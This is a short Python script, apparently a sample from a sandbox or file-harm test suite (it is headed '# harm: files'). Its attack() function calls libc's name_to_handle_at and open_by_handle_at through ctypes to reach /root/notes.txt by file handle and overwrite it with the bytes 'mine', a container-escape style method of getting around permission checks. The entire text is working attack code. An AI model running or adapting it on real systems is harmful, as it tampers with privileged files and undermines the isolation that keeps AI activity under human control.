# harm: files
import ctypes
import os
import struct

libc = ctypes.CDLL(None)


def attack() -> int:
    handle = ctypes.create_string_buffer(struct.pack("Ii", 128, 0), 136)
    libc.name_to_handle_at(-100, b"/root/notes.txt", handle, ctypes.byref(ctypes.c_int()), 0)
    home = os.open("/root", os.O_RDONLY)
    return os.write(libc.open_by_handle_at(home, handle, os.O_WRONLY), b"mine")
